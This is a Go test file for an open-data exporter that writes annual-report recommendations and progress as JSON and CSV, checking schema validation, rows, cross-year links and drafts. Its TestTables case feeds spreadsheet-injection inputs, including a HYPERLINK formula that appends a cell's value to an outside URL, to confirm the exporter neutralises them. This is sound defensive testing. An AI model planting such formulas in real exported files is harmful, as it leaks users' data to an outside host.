package opendata

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io/fs"
	"path"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"annualreport/tools/report"
	"annualreport/tools/testkit"
)

// library reads the tests' own report.
func library(t *testing.T) *report.Library {
	t.Helper()
	lib, err := report.Load(testkit.MemorySource(), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	return lib
}

// file returns one of a library's files.
func file(t *testing.T, lib *report.Library, address, name string) []byte {
	t.Helper()
	files, err := Files(lib, address)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if f.Name == name {
			return f.Bytes
		}
	}
	t.Fatalf("there is no %s", name)
	return nil
}

// The data matches its published schema, and the schema rejects wrong data.
func TestSchema(t *testing.T) {
	compiler := jsonschema.NewCompiler()
	compiler.AssertFormat()
	document, err := jsonschema.UnmarshalJSON(bytes.NewReader(Schema))
	if err == nil {
		err = compiler.AddResource(SchemaFile, document)
	}
	if err != nil {
		t.Fatal(err)
	}
	schema, err := compiler.Compile(SchemaFile)
	if err != nil {
		t.Fatal(err)
	}
	judge := func(text string) error {
		value, err := jsonschema.UnmarshalJSON(strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		return schema.Validate(value)
	}
	for _, address := range []string{"", "https://www.example.org/report/"} {
		if err := judge(string(file(t, library(t), address, "2014/report.json"))); err != nil {
			t.Error(err)
		}
	}
	good := string(file(t, library(t), "", "2014/report.json"))
	for _, wrong := range [][2]string{
		{`"version": 2`, `"version": 1`}, {`"state": "under-way"`, `"state": "in progress"`}, {`"date": "2014-10-22"`, `"date": "22 October 2014"`},
		{`"number": "1",`, `"number": 1,`}, {`"wording"`, `"words"`}, {`"source": "https:`, `"source": " `},
	} {
		if judge(strings.Replace(good, wrong[0], wrong[1], 1)) == nil {
			t.Errorf("the schema lets %s pass", wrong[1])
		}
	}
	if err := judge(strings.Replace(good, `"version": 2`, `"version": 2, "added": true`, 1)); err != nil {
		t.Errorf("a name that is new breaks the schema: %v", err)
	}
}

// Any text survives in the tables, and none can run as a formula.
func TestTables(t *testing.T) {
	for _, text := range []string{
		"plain", `with "quotes", commas; and more`, "two\nlines", `=HYPERLINK("https://example.org/?"&A1,"Open")`, "+44 113", "-1", "@SUM(A1)", "\tindented", "'quoted'", "’tis — “so”",
	} {
		lib := library(t)
		lib.Reports[0].Recommendations[0].Wording = report.Text(text)
		raw := file(t, lib, "", "2014/recommendations.csv")
		if !bytes.HasPrefix(raw, []byte("\ufeffreport,number,id,")) || bytes.Count(raw, []byte("\n")) != bytes.Count(raw, []byte("\r\n")) {
			t.Errorf("%q: the table begins with %.40q, or a line does not end with CRLF", text, raw)
		}
		rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("%q: %d rows: %v", text, len(rows), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r") == 0 {
					t.Errorf("a cell begins with a sign of formulas: %q", cell)
				}
			}
		}
		if got := rows[1][5]; got != text && got != "'"+text {
			t.Errorf("%q comes out as %q", text, got)
		}
	}
}

// The table of progress has a row for each item and body asked, with the latest that
// this body said, and none for drafts.
func TestProgressTable(t *testing.T) {
	lib := library(t)
	lib.Reports[0].Recommendations[0].Requests[0].Due = report.Date{Time: lib.AsAt.AddDate(0, 0, -3)}
	lib.Reports[0].Recommendations[0].Requests[0].Overdue = true
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file(t, lib, "", ProgressFile), []byte(byteOrderMark)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []map[string]string
	for _, row := range rows[1:] {
		cells := map[string]string{}
		for i, cell := range row {
			cells[rows[0][i]] = cell
		}
		got = append(got, cells)
	}
	n := 0
	for _, it := range lib.AllItems() {
		for _, r := range it.Requests {
			row := got[n]
			if n++; row["id"] != it.ID || row["body_id"] != r.Body.ID || row["state"] != it.State.Kind || row["says"] != r.Says() || (row["progress"] != "") != (r.Progress != nil) {
				t.Errorf("row %d is %v, for %s and %s", n, row, it.ID, r.Body.ID)
			}
		}
	}
	if n != len(got) || n == 0 {
		t.Errorf("%d rows for %d requests", len(got), n)
	}
	if first := got[0]; first["overdue"] != "yes" || first["days_late"] != "3" || got[1]["overdue"] != "no" || got[1]["days_late"] != "" {
		t.Errorf("late: %v, then %v", first, got[1])
	}
	for _, rep := range lib.Reports {
		rep.Draft = true
	}
	if text := file(t, lib, "", ProgressFile); bytes.Count(text, []byte("\n")) != 1 {
		t.Errorf("a draft is in the table: %s", text)
	}
}

// The table of progress has all of its columns, each with what it is called after.
func TestProgressRow(t *testing.T) {
	files := testkit.MemorySource()
	const name = "data/2014/recommendations.toml"
	text := strings.Replace(string(files[name].Data), `progress = "in-progress"`, `answer = "accepted"
progress = "in-progress"
verdict = "not-met"
due = 2026-11-20
next = "Train the staff."`, 1)
	files[name] = &fstest.MapFile{Data: []byte(strings.Replace(text, `challenges = ["think-family"]`, `challenges = ["think-family"]
addressed_note = "chiefly"`, 1))}
	lib, err := report.Load(files, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	it := lib.Reports[0].Recommendations[0]
	it.State.Closed, it.Closed = lib.Reports[0], "Not asked again."
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file(t, lib, "https://www.example.org/", ProgressFile), []byte(byteOrderMark)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][2]string{
		{"report", "2014"}, {"kind", "recommendation"}, {"number", "1"}, {"id", "think-family"}, {"title", string(it.Title)}, {"stem", ""}, {"wording", string(it.Wording)},
		{"body_id", "safer-leeds-partnership"}, {"body", "Safer Leeds Partnership"}, {"addressed_note", "chiefly"}, {"state", "under-way"}, {"says", it.Requests[1].Says()},
		{"answer", "accepted"}, {"progress", "in-progress"}, {"verdict", "not-met"}, {"next", "Train the staff."}, {"due", "2026-11-20"}, {"overdue", "yes"}, {"days_late", "3"},
		{"last_news", "2015-09-15"}, {"source", it.Updates[0].Source}, {"closed", "Not asked again."}, {"page", "https://www.example.org/2014/recommendations/think-family/"},
	}
	var got [][2]string
	for i, column := range rows[0] {
		got = append(got, [2]string{column, rows[2][i]})
	}
	if !slices.Equal(got, want) {
		t.Errorf("the row is\n%q, want\n%q", got, want)
	}
}

// twoYears returns the source of two reports. The second asks again what the first
// did, except for two items with other names.
func twoYears(t *testing.T) fstest.MapFS {
	t.Helper()
	files := testkit.MemorySource()
	lib, err := report.Load(files, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	draft, err := report.Next(files, lib.Latest, "2015")
	if err != nil {
		t.Fatal(err)
	}
	write := strings.NewReplacer("\ndraft = true", "", "2015-01-01", "2015-10-21", "TO WRITE: ", "Of 2015: ",
		"[think-family]\nnumber = 1", "[families]\nnumber = 1\nclosed = \"Not asked again.\"", "[bereavement]\nnumber = 2", "[loss]\nnumber = 2")
	for name, text := range draft.Files {
		files[name] = &fstest.MapFile{Data: []byte(write.Replace(text))}
	}
	return files
}

// Items of two years refer to each other. An item is closed only if there is a next
// report.
func TestThreads(t *testing.T) {
	files := twoYears(t)
	challenges := files["data/2014/challenges.toml"].Data
	nextYear := string(files["data/2015/challenges.toml"].Data)
	files["data/2014/challenges.toml"] = &fstest.MapFile{Data: bytes.Replace(challenges, []byte("[early-help]"), []byte("[early-help]\nclosed = \"Done by others.\""), 1)}
	files["data/2015/challenges.toml"] = &fstest.MapFile{Data: []byte(strings.Replace(nextYear, "follows = \"2014/early-help\"\n", "", 1))}
	lib, err := report.Load(files, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	data := func(year, address string) Report {
		var r Report
		if err := json.Unmarshal(file(t, lib, address, year+"/report.json"), &r); err != nil {
			t.Fatal(err)
		}
		return r
	}
	old := data("2014", "")
	if got := old.Recommendations[0].FollowedBy; got == nil || *got != (Other{"2015", "families", "../2015/recommendations/#recommendation-families"}) || old.Recommendations[0].Follows != nil {
		t.Errorf("the first one is followed by %v", got)
	}
	if got := old.Challenges[2]; got.FollowedBy != nil || got.Closed != "Done by others." {
		t.Errorf("the closed one: %+v", got)
	}
	young := data("2015", "https://example.org/").Recommendations[0]
	if got := young.Follows; got == nil || *got != (Other{"2014", "think-family", "https://example.org/2014/recommendations/#recommendation-think-family"}) || young.Closed != "" {
		t.Errorf("the new one follows %v, and is closed: %q", got, young.Closed)
	}
}

// Files are in their reports' folders. Drafts have none, whether shown or not.
func TestFiles(t *testing.T) {
	source := twoYears(t)
	summary := source["content/2015/_index.md"].Data
	source["content/2015/_index.md"] = &fstest.MapFile{Data: bytes.Replace(summary, []byte("+++\n"), []byte("+++\ndraft = true\n"), 1)}
	for _, load := range []func(fs.FS, time.Time) (*report.Library, error){report.Load, report.LoadDrafts} {
		lib, err := load(source, time.Now())
		if err != nil || len(lib.Drafts) != 1 {
			t.Fatalf("%v, want one draft", err)
		}
		files, err := Files(lib, "")
		if err != nil || len(files) != 5 {
			t.Fatalf("%d files: %v", len(files), err)
		}
		for _, f := range files {
			if dir := path.Dir(f.Name); dir == "2015" || len(f.Bytes) == 0 {
				t.Errorf("%s has %d bytes", f.Name, len(f.Bytes))
			}
		}
	}
}

// The table of recommendations has the last update that was not withdrawn, with where it
// can be read, and names paragraphs as readers see them.
func TestItemRow(t *testing.T) {
	files := testkit.MemorySource()
	const name = "data/2014/recommendations.toml"
	_, rest, ok := strings.Cut(string(files[name].Data), "[bereavement]")
	if !ok {
		t.Fatal("there is no recommendation [bereavement]")
	}
	const update = "\n[[think-family.updates]]\ndate = %s\nby = [\"safer-leeds-partnership\"]\ntext = \"%s\"\n%s\n\n[bereavement]"
	text := strings.Replace(string(files[name].Data), "[bereavement]"+rest, fmt.Sprintf(update, "2016-01-02", "By letter.", "document = \"letter.txt\"")+rest, 1)
	text = strings.Replace(text, "[bereavement]"+rest, fmt.Sprintf(update, "2016-02-03", "Wrong.", "source = \"https://example.org/\"\nwithdrawn = \"It was wrong.\"")+rest, 1)
	files[name] = &fstest.MapFile{Data: []byte(text)}
	files["content/2014/letter.txt"] = &fstest.MapFile{Data: []byte("A letter.\n")}
	lib, err := report.Load(files, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file(t, lib, "", "2014/recommendations.csv"), []byte(byteOrderMark)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]string{}
	for i, column := range rows[0] {
		cells[column] = rows[1][i]
	}
	if cells["update_date"] != "2016-01-02" || cells["update_text"] != "By letter." || cells["update_source"] != "letter.txt" || cells["findings"] != "paragraph 3.3" {
		t.Errorf("the row is %q", cells)
	}
}
